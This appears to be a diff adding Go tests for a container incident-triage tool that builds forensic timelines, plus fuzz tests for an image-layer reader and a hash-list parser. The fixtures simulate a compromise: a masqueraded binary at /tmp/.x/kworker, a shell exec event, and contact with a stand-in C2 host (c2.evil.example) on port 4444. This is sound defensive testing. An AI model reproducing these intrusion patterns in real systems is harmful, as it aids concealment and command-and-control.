+	top := triageTar(t, []*tar.Header{{Name: "tmp/.x/kworker", Mode: 0o755, Typeflag: tar.TypeReg, ModTime: mtime}}, map[string][]byte{"tmp/.x/kworker": []byte("\x7fELF")})
+	commits, _ := json.Marshal([]map[string]any{{"container": triageTestID, "name": "web", "member": "images/web.tar"}})
+	events := `{"Type":"container","Action":"pause","Actor":{"ID":"` + triageTestID + `","Attributes":{"name":"web","image":"img"}},"time":1795856400,"timeNano":1795856400000000000}
+not json
+{"Type":"container","Action":"exec_start: /bin/sh -c id","Actor":{"ID":"` + triageTestID + `","Attributes":{"name":"web"}},"time":1795856300,"timeNano":1795856300000000000}
+`
+	procs, _ := json.Marshal([]map[string]any{
+		{"pid": 100, "ppid": 90, "comm": "sh", "cmdline": []string{"/bin/sh", "--token=s3cr3tvalue"}, "start_time": "2026-11-28T08:00:01Z", "container_id": triageTestID},
+		{"pid": 7, "ppid": 2, "comm": "kworker/0:1", "start_time": "2026-11-28T07:00:00Z"},
+	})
+	actions := `[{"time":"2026-11-28T10:05:00Z","action":"pause","container":"` + triageTestID + `","name":"web"}]`
+	clock := `{"wall":"2026-11-28T10:04:00Z","ntp":{"synchronized":false,"state":"TIME_ERROR","status_flags":["STA_UNSYNC"],"est_error_us":1000}}`
+	m := triageTestMembers(t, inspect, map[string][]byte{memberCommits: commits, "images/web.tar": triageSavedImage(t, top), memberEvents: []byte(events),
+		memberProcesses: procs, memberActions: []byte(actions), memberClock: []byte(clock)})
+	src := memSource{}
+	for k, v := range m {
+		src[k] = v
+	}
+	h := loadHost(src)
+	steps := []bundle.StepRecord{{Name: "clock", Started: time.Date(2026, 11, 28, 10, 4, 0, 0, time.UTC), Status: "ok"}}
+	base := time.Date(2026, 11, 28, 9, 45, 0, 0, time.UTC)
+	tags := []TriageFinding{
+		{ID: "b-rule", Evidence: []Evidence{{Member: memberProcesses, Pointer: "/0", Text: "differs"}}},
+		{ID: "a-rule", Evidence: []Evidence{{Member: memberProcesses, Pointer: "/0"}, {Member: "images/web.tar", Text: "layer top/layer.tar entry tmp/.x/kworker: more"}}},
+	}
+	evs := buildTimeline(h, m, steps, TimelineOptions{Findings: tags, IOCs: []string{"198.18.0.2", "evil.example"},
+		Flows: []FlowSummary{{Container: triageTestID, Proto: "tcp", Remote: netip.MustParseAddr("198.18.0.2"), RemotePort: 4444, First: base, Last: base.Add(time.Minute)}},
+		DNS:   []DNSName{{Container: triageTestID, Name: "c2.evil.example", Time: base.Add(-time.Second), Answers: []string{"198.18.0.2"}}}})
+	var got []string
+	for _, e := range evs {
+		got = append(got, e.Time.Format("15:04:05")+" "+e.Kind+" "+e.Message)
+		switch e.Kind {
+		case TimeProcessStart:
+			if !slices.Equal(e.Tags, []string{"a-rule", "b-rule"}) {
+				t.Errorf("process event tags = %q, want a-rule, b-rule", e.Tags)
+			}
+		case TimeFileModified:
+			if !slices.Equal(e.Tags, []string{"a-rule"}) {
+				t.Errorf("file event tags = %q, want a-rule", e.Tags)
+			}
+		default:
+			if len(e.Tags) > 0 {
+				t.Errorf("%s event tagged %q", e.Kind, e.Tags)
+			}
+		}
+	}
+	want := []string{
+		"08:00:00 Container created container created web (aaaaaaaaaaaa, image img)",
+		"08:00:01 Container started container started web (aaaaaaaaaaaa, image img)",
+		"08:00:01 Process start process 100 started in container web: /bin/sh --token=…(redacted, 11 chars)",
+		"08:58:20 Docker engine event container exec_start: /bin/sh -c id web (aaaaaaaaaaaa)",
+		"09:00:00 Docker engine event container pause web (aaaaaaaaaaaa)",
+		"09:30:00 File modified modified /tmp/.x/kworker in web (-rwxr-xr-x (0755), 4 bytes)",
+		"09:44:59 DNS answer IOC contact evil.example: DNS c2.evil.example → 198.18.0.2",
+		"09:45:00 First packet first packet tcp IOC contact 198.18.0.2: web → 198.18.0.2:4444",
+		"09:46:00 Last packet last packet tcp IOC contact 198.18.0.2: web → 198.18.0.2:4444",
+		"10:04:00 Collection step collection step clock: ok",
+		"10:04:00 Host clock reading host clock read by the collector: " + clockNote(m),
+		"10:05:00 Containment containment: pause web",
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("buildTimeline() =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+// FuzzReadTopLayer feeds arbitrary bytes to the saved-image reader: it must
+// return an error or a layer, never panic.
+func FuzzReadTopLayer(f *testing.F) {
+	t := &testing.T{}
+	top := triageTar(t, []*tar.Header{{Name: "tmp/x", Mode: 0o4755, Typeflag: tar.TypeReg}, {Name: "a/.wh.b", Typeflag: tar.TypeReg}}, map[string][]byte{"tmp/x": []byte("#!/bin/sh")})
+	f.Add(triageSavedImage(t, top))
+	f.Add([]byte("not a tar"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		l, err := ReadTopLayer(bytes.NewReader(data))
+		if err == nil && l == nil {
+			t.Fatal("ReadTopLayer() = nil, nil")
+		}
+	})
+}
+
+// FuzzParseHashList checks that every digest the hash-list parser accepts
+// is 64 lowercase hex digits.
+func FuzzParseHashList(f *testing.F) {
+	f.Add([]byte(strings.Repeat("a", 64) + "  x\n# c\n"))
+	f.Add([]byte("\\" + strings.Repeat("F", 64) + "\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		got, err := ParseHashList(bytes.NewReader(data))
+		if err != nil {
+			return
+		}
+		for h := range got {
+			if _, derr := hex.DecodeString(h); derr != nil || len(h) != 64 || strings.ToLower(h) != h {
+				t.Fatalf("ParseHashList(%q) accepted %q", data, h)
+			}
+		}
+	})
+}
